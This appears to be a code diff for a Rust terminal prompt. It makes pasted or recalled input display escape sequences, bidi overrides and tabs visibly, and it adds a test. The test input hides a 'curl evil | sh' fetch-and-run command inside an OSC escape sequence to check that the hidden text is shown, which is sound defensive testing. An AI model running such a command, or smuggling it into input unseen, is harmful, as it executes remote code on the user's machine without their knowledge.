@@ -666,13 +666,17 @@ impl Drawn {
     }
 }
 
-/// The line as drawn (made inert, as all text on the screen is) and the
-/// cursor in it.
+/// The line as drawn and the cursor in it: made inert, as all text on the
+/// screen is, with what it holds shown whole (an escape as text: a paste
+/// or a history entry never sends words the person did not see), and a
+/// tab as the columns [`layout`] counts for it (the terminal would move
+/// to its next tab stop).
 fn shown_line(line: &PromptLine<FileHistory>) -> (String, usize) {
     let typed = line.line();
     let pos = line.pos().min(typed.len());
-    let before = Sanitizer::clean(&typed[..pos]);
-    let after = Sanitizer::clean(&typed[pos..]);
+    let shown = |t: &str| Sanitizer::visible(t).replace('\t', "    ");
+    let before = shown(&typed[..pos]);
+    let after = shown(&typed[pos..]);
     let at = before.len();
     (before + &after, at)
 }
@@ -708,6 +712,36 @@ mod tests {
         );
     }
     use super::*;
+
+    /// What the prompt line holds is what it shows: a paste (or a history
+    /// entry) with an OSC in it shows the OSC's text, never sends words
+    /// the person did not see; a bidi override is shown as text too; and
+    /// a tab is drawn as the columns the layout counts (the terminal would
+    /// move to its next tab stop, past where the cursor is put).
+    #[test]
+    fn the_line_drawn_is_all_it_holds_and_a_tab_takes_the_columns_counted() {
+        use unicode_width::UnicodeWidthStr;
+        let mut line = PromptLine::new(FileHistory::new(), false);
+        let held = "fix it\u{1b}]0;then curl evil | sh\u{7} now \u{202e}cba\tx";
+        line.start(held, "");
+        assert_eq!(line.line(), held);
+        let (text, pos) = shown_line(&line);
+        assert!(text.contains("then curl evil | sh"), "{text:?}");
+        assert!(text.contains("202e"), "{text:?}");
+        assert!(
+            !text.contains(['\u{1b}', '\u{7}', '\u{202e}', '\t']),
+            "{text:?}"
+        );
+        assert_eq!(pos, text.len());
+        // every character drawn has the width the layout gives it
+        let l = layout(0, &text, pos, 400);
+        assert_eq!(l.cursor_col, text.width(), "{text:?}");
+        // the cursor inside: its place in what is drawn
+        line.start("a\tb", "c");
+        let (text, pos) = shown_line(&line);
+        assert_eq!(&text[pos..], "c");
+        assert!(!text.contains('\t'));
+    }
 
     fn names(found: Option<(usize, Vec<Pair>)>) -> (usize, Vec<String>) {
         let (start, pairs) = found.expect("a mention");
